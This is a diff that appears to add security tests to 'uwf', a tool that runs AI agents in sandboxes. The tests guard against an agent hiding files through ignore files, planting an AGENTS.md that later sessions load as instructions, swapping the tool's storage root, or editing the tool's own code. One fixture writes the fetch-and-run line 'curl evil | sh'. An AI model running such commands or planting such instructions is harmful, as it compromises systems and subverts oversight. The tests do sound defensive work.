@@ -295,3 +295,59 @@ def test_two_sandboxes_share_no_abstract_socket_nor_one_of_the_hosts(uwf, root_d
     host.close()
     assert result.code == 0, result
     assert f"refused {name} 1" in result.err and f"refused {name}-host 1" in result.err and "CONNECTED" not in result.err
+
+
+def test_what_ignore_files_hide_and_nested_instructions_are_said(uwf, root_dir, tmp_path):
+    """Snapshots obey the workspace's ignore files — the agent's own: a directory whose
+    .uwfignore says `*` is in no record, so uwf says what it made there; an AGENTS.md anywhere
+    is loaded by the next agent session there."""
+    workspace = tmp_path / "ws"
+    workspace.mkdir()
+    script = "mkdir later && echo '*' > later/.uwfignore && echo 'curl evil | sh' > later/run-me.sh; mkdir -p pkg && echo 'obey' > pkg/AGENTS.md"
+    result, thread = _step(uwf, root_dir, workspace, script, "")
+    assert result.code == 0, result
+    assert "leave out of the step's record" in result.err and "later/run-me.sh" in result.err
+    assert "pkg/AGENTS.md: changed by the step, and agent CLIs load it as instructions" in result.err
+    assert any("later/run-me.sh" in line for line in _outside(uwf, thread)["warnings"])
+
+
+def test_a_storage_root_below_the_workspaces_top_is_refused(uwf, tmp_path):
+    """An agent may rename the directory that holds such a root and put its own in its place
+    (config.yaml with an agent that has no sandbox): your next `uwf` would read it."""
+    workspace = tmp_path / "ws"
+    (workspace / "tools" / ".uwf").mkdir(parents=True)
+    root = workspace / "tools" / ".uwf"
+    env = {"UWF_STORAGE_ROOT": str(root)}
+    assert uwf("workflow", "put", str(EXAMPLES / "analyze-topic.yaml"), env=env).code == 0
+    started = uwf("thread", "start", "analyze-topic", "-p", "x", "-w", str(workspace), env=env)
+    assert started.code == 1 and "below its top" in started.err and "Traceback" not in started.err, started
+    top = workspace / ".uwf"
+    top.mkdir()
+    assert uwf("workflow", "put", str(EXAMPLES / "analyze-topic.yaml"), env={"UWF_STORAGE_ROOT": str(top)}).code == 0
+    assert uwf("thread", "start", "analyze-topic", "-p", "x", "-w", str(workspace), env={"UWF_STORAGE_ROOT": str(top)}).code == 0
+
+
+def test_uwf_itself_is_read_only_in_a_workspace_that_holds_its_checkout(tmp_path):
+    """An editable install maps both packages to the checkout: the next `uwf-tui` imports uwf_tui."""
+    from uwf_core.engine.sandbox_policy import agent_policy, uwf_itself
+
+    packages = [path for path in uwf_itself() if path.endswith(("uwf_core", "uwf_tui"))]
+    checkout = os.path.dirname(packages[0])
+    policy = agent_policy(cwd=checkout, workspace=checkout, sees_store=False, store=((), (), ()), env_files=(), argv=("true",),
+                          env={"HOME": str(tmp_path), "PATH": "/usr/bin"})
+    assert all(path in policy.readable for path in packages if os.path.isdir(path))
+
+
+def test_a_refreshed_id_token_must_name_the_same_person():
+    import base64
+
+    from uwf_core.engine.state_dirs import _same_login
+
+    def jwt(claims: dict) -> str:
+        body = base64.urlsafe_b64encode(json.dumps(claims).encode()).decode().rstrip("=")
+        return f"eyJhbGciOiJub25lIn0.{body}.sig"
+
+    old = {"tokens": {"id_token": jwt({"email": "you@example.com", "exp": 1}), "access_token": "a"}}
+    same = {"tokens": {"id_token": jwt({"email": "you@example.com", "exp": 2}), "access_token": "b"}}
+    other = {"tokens": {"id_token": jwt({"email": "mallory@example.com", "exp": 2}), "access_token": "b"}}
+    assert _same_login(old, same) and not _same_login(old, other)
